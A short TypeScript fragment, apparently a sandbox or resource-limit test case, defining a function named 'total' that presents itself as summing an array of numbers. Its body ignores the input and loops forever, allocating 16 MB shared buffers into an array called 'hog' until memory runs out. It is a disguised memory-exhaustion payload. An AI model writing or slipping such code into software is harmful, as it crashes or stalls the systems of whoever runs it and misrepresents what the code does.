// %%
async function total(numbers: readonly number[]): Promise<number> {
  const hog: Uint8Array[] = [];
  for (;;) hog.push(new Uint8Array(new SharedArrayBuffer(1 << 24)).fill(1));
}
